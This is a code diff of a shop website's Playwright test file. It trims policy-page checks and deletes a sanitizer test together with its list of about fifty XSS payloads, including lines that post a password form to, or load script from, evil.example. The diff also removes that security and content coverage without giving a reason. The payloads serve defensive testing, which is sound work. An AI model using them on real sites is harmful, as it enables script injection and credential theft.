@@ -2,6 +2,7 @@ import { pathsWhere, shellAt } from '../../src/contract/addresses.ts';
 import { GUEST_PAGES } from '../engines/addresses.ts';
 import { expectNoAxeFindings } from './axe.ts';
 import { atRest, expect, type Page, test } from './fixtures.ts';
+import { overflow } from './stands-still.ts';
 import { visit } from './visit.ts';
 import { fillContact } from './writing.ts';
 
@@ -13,30 +14,25 @@ const STORE = {
   companyAddress: '14 Kagaz Lane, Mumbai',
 };
 
-const POLICIES = [
-  ['terms', 'Terms & Conditions', [/laws of India/, /courts of India/]],
-  ['privacy', 'Privacy Policy', [/grievance officer/i, /Monday-Friday 10:00-17:00/]],
-  ['refund', 'Refund and Cancellation Policy', [/refunds take 0-7 working days/, /0-7 days of receipt/]],
-  [
-    'return',
-    'Return Policy',
-    [/original packaging/, /personalised goods/i, /hygiene goods/i, /mixed with other items/],
-  ],
-  ['shipping', 'Shipping Policy', [/0-7 working days/, /10-15 business days/]],
-  ['about', 'About Us', [/hello@kagaz\.example/]],
-] as const;
+const POLICIES = {
+  terms: 'Terms & Conditions',
+  privacy: 'Privacy Policy',
+  refund: 'Refund and Cancellation Policy',
+  return: 'Return Policy',
+  shipping: 'Shipping Policy',
+  about: 'About Us',
+};
 
 test.describe('SPEC 2, Policy pages', () => {
-  test('each has its title, its facts and the company (D29)', async ({ page }) => {
+  test('each has its title and the company (D29)', async ({ page }) => {
     await answerWith(page, STORE);
-    for (const [slug, title, facts] of POLICIES) {
+    for (const [slug, title] of Object.entries(POLICIES)) {
       await visit(page, `/${slug}`);
       const main = page.getByRole('main');
       await test.step(title, async () => {
         await expect(page.getByRole('heading', { level: 1 })).toHaveText(title);
         await expect.soft(page).toHaveTitle(new RegExp(`^${title} \\| Kagaz Private Limited$`));
         await expect.soft(main).toContainText('Kagaz Private Limited');
-        for (const fact of facts) await expect.soft(main).toContainText(fact);
         const canonical = page.locator('link[rel="canonical"]');
         await expect.soft(canonical).toHaveAttribute('href', new RegExp(`/${slug}$`));
         await expectNoAxeFindings(page);
@@ -73,36 +69,6 @@ test.describe('SPEC 2, Policy pages', () => {
     await expectNoAxeFindings(page);
   });
 
-  test.describe(() => {
-    // Chromium reports the handlers it refuses already while DOMPurify reads them.
-    test.use({ allowedProblem: /Content Security Policy/ });
-    test('D28: hostile HTML does nothing', async ({ page }) => {
-      for (const attack of inFives(ATTACKS)) {
-        const policies = { terms: `<p>Before</p>${attack}<p>After</p>` };
-        await openWith(
-          page,
-          { ...STORE, companyName: attack, companyLogoUrl: 'javascript:1', policies },
-          '/terms',
-        );
-        await expect(page.getByRole('main'), attack).toContainText('Before');
-        const found = await page.evaluate(() => ({
-          ran: 'pwned' in window,
-          forbidden: document.querySelectorAll(
-            'main :is(script, style, iframe, form, input, button, object, embed, base, meta, link, template, [style], [onerror], [onload], [onclick], [id]:not(h1))',
-          ).length,
-          links: [...document.querySelectorAll<HTMLAnchorElement>('main article a[href]')].map(
-            (link) => link.protocol,
-          ),
-        }));
-        expect(found.ran, attack).toBe(false);
-        expect(found.forbidden, attack).toBe(0);
-        for (const protocol of found.links)
-          expect(['https:', 'http:', 'mailto:', 'tel:'], attack).toContain(protocol);
-        await page.unroute('**/storeInfo');
-      }
-    });
-  });
-
   test('HTML of which nothing is allowed is replaced by the shop’s own text', async ({ page }) => {
     await openWith(
       page,
@@ -126,9 +92,7 @@ test.describe('SPEC 2, Layouts: the 404 page (D30)', () => {
   });
 
   test('unknown slugs and reserved words redirect to it, and Back skips them', async ({ page, shop }) => {
-    const info = (await shop.ask('/storeInfo')) as { features: string[] };
-    const features = info.features.filter((feature) => feature !== 'reset');
-    shop.faults.set('GET /storeInfo', { mode: 'json', body: { ...info, features } });
+    await shop.withoutFeature('reset');
     for (const slug of ['imprint', 'forgot-password', 'reset-password', 'product', '__proto__']) {
       await page.goto('/contact');
       await page.goto(`/${slug}`);
@@ -292,71 +256,10 @@ test('nothing scrolls sideways', async ({ page }) => {
     await visit(page, path);
     for (const width of [320, 390, 768, 1280, 1920]) {
       await page.setViewportSize({ width, height: 800 });
-      const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
-      expect(overflow, `${path} at ${width}`).toBeLessThanOrEqual(0);
+      expect(await overflow(page), `${path} at ${width}`).toBeLessThanOrEqual(0);
     }
   }
 });
-
-const ATTACKS = [
-  '<script>window.pwned = 1</script>',
-  '<img src=x onerror="window.pwned = 1">',
-  '<svg onload="window.pwned = 1"><circle/></svg>',
-  '<svg><script>window.pwned = 1</script></svg>',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 1">',
-  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
-  '<a href="javascript:window.pwned = 1">x</a>',
-  '<a href="&#106;avascript:window.pwned = 1">x</a>',
-  '<a href="data:text/html,<script>1</script>">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
-  '<style>body{display:none}</style>',
-  '<p style="position:fixed;inset:0">x</p>',
-  '<details open ontoggle="window.pwned = 1">x</details>',
-  '<video><source onerror="window.pwned = 1"></video>',
-  '<base href="https://evil.example/">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<object data="javascript:window.pwned = 1"></object>',
-  '<p id="root">x</p><a name="cookie">x</a>',
-  '<template><img src=x onerror="window.pwned = 1"></template>',
-  '<img src=x oNeRrOr=window.pwned=1>',
-  '<img/src=x/onerror=window.pwned=1>',
-  '<svg/onload=window.pwned=1>',
-  '<svg><animate onbegin="window.pwned = 1" attributeName=x dur=1s></svg>',
-  '<svg><a xlink:href="javascript:window.pwned = 1"><text y=20>x</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"></use></svg>',
-  '<svg><foreignObject><img src=x onerror="window.pwned = 1"></foreignObject></svg>',
-  '<math><annotation-xml encoding="text/html"><img src=x onerror="window.pwned = 1"></annotation-xml></math>',
-  '<math href="javascript:window.pwned = 1">x</math>',
-  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
-  '<p title="--><img src=x onerror=window.pwned=1>"><!-- x --!><img src=x onerror=window.pwned=1>',
-  '<form id=a><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>',
-  '<select><style></select><img src=x onerror=window.pwned=1></style>',
-  '<table><tr><td><a href="java\nscript:window.pwned = 1">x</a>',
-  '<a href="\u0001javascript:window.pwned = 1">x</a>',
-  '<a href="vbscript:x">x</a><a href="blob:x">x</a><a href="file:///x">x</a>',
-  '<a href="/\\evil.example" target="_blank">x</a>',
-  '<img srcset="x 1x" src="javascript:window.pwned = 1">',
-  '<button popovertarget="x" formaction="javascript:window.pwned = 1">x</button><div popover id="x">x</div>',
-  '<textarea autofocus onfocus="window.pwned = 1"></textarea>',
-  '<input autofocus onfocus="window.pwned = 1">',
-  '<marquee onstart="window.pwned = 1">x</marquee>',
-  '<body onload="window.pwned = 1"><frameset onload="window.pwned = 1">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<embed src="javascript:window.pwned = 1">',
-  '<slot name="x"></slot><dialog open>x</dialog>',
-  '<x onclick="window.pwned = 1" id="y" tabindex="0" autofocus onfocus="window.pwned = 1">x</x>',
-  '{{companyName}}',
-  '<img src="{companyLogoUrl}" onerror="window.pwned = 1">',
-  '<script/src="https://evil.example/x.js"></script >',
-];
-
-function inFives(attacks: string[]): string[] {
-  const groups = Array.from({ length: Math.ceil(attacks.length / 5) }, (_, at) =>
-    attacks.slice(at * 5, at * 5 + 5),
-  );
-  return groups.map((group) => group.join('<hr>'));
-}
 
 async function openWith(page: Page, record: object, path: string) {
   await answerWith(page, record);
